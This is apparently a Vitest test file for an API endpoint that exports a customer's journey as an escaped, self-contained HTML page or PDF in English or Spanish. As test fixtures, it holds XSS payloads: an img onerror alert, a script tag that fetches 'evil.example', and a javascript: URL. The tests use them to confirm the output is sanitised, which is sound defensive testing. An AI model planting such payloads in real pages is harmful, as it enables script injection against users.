// GET /api/customers/:id/report: the customer's journey as a self-contained HTML page (every outside text
// escaped, no script, no outside resource) in English or Spanish, or the same page printed to PDF.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { API_ROUTES } from '../../../shared/api/routes.ts';
import { importDemoExports } from '../../customers/testing/customer-fixtures.ts';
import { makeMention } from '../../testing/mention-factory.ts';
import { openApiFixture, type ApiFixture } from '../testing/api-fixture.ts';

let fx: ApiFixture;
let marta: string;
const hostile = 'Lumora <img src=x onerror="alert(1)"> me cobró dos veces <script>fetch("https://evil.example")</script>';

beforeAll(async () => {
  fx = await openApiFixture({}, 'ana');
  const complaint = makeMention({ author: { name: 'Marta R.', handle: 'marta_rz' }, text: hostile, url: 'javascript:alert(1)', publishedAt: '2026-11-22T09:00:00.000Z' });
  const thanks = makeMention({ author: { name: 'Marta R.', handle: 'marta_rz' }, text: 'Lumora lo arregló, gracias', publishedAt: '2026-11-22T15:00:00.000Z', sentiment: { score: 0.6, label: 'positive', confidence: 0.9 } });
  await fx.store.insertMentions([complaint, thanks]);
  await importDemoExports(fx.store);
  marta = (await fx.store.getMention(complaint.id))!.customerId!;
});
afterAll(() => fx.close());

const report = (query: string, id = marta) => fx.api.app.inject({ url: `/api/customers/${id}/report?${query}`, headers: fx.auth });

describe('GET /api/customers/:id/report', () => {
  it('answers a self-contained HTML download with touchpoints, moments, metrics and recovery, outside text escaped', async () => {
    const res = await report('format=html&lang=en');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="journey-${marta}-\\d{4}-\\d{2}-\\d{2}-en\\.html"$`));
    const html = res.body;
    expect(html).toMatch(/^<!doctype html>/);
    expect(html).toContain("default-src 'none'");
    expect(html).not.toMatch(/<script|<img|javascript:/i);
    expect(html).toContain('&lt;img src=x onerror=&quot;alert(1)&quot;&gt;');
    // Recovery (won back in 6 h), journeys with metrics, the timeline with CRM touchpoints and moments.
    expect(html).toContain('Customer journey — Marta Ruiz');
    expect(html).toMatch(/<tr data-recovery="recovered">[\s\S]*?Lumora[\s\S]*?recovered/);
    expect(html).toMatch(/data-journey="/);
    expect(html).toMatch(/data-kind="touchpoint"[\s\S]*?Portabilidad saliente/);
    expect(html).toMatch(/LZMOT/);
  });

  it('speaks Spanish when asked', async () => {
    const html = (await report('lang=es')).body;
    expect(html).toContain('<html lang="es">');
    expect(html).toContain('Recorrido del cliente — Marta Ruiz');
    expect(html).toMatch(/data-recovery="recovered"[\s\S]*?recuperado/);
    // Directions, outcomes and journey types in Spanish too (moment codes stay codes).
    expect(html).toMatch(/phone · entrante/);
    expect(html).toContain('sin resolver');
    expect(html).not.toMatch(/\b(inbound|outbound|unresolved)\b/);
    expect(html).toContain('<strong>instalación</strong>');
  });

  it('prints the same page to PDF through Chromium', async () => {
    const res = await report('format=pdf&lang=es');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toMatch(/-es\.pdf"$/);
    expect(res.rawPayload.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(res.rawPayload.length).toBeGreaterThan(5_000);
  });

  it('answers 404 for an unknown customer, 400 for an unknown format or language, 401 without a token', async () => {
    expect((await report('format=html', 'cus_nobody')).statusCode).toBe(404);
    expect((await report('format=docx')).statusCode).toBe(400);
    expect((await report('lang=fr')).statusCode).toBe(400);
    expect(API_ROUTES['GET /api/customers/:id/report'].query.safeParse({ format: 'pdf', lang: 'es' }).success).toBe(true);
    expect((await fx.api.app.inject({ url: `/api/customers/${marta}/report` })).statusCode).toBe(401);
  });
});
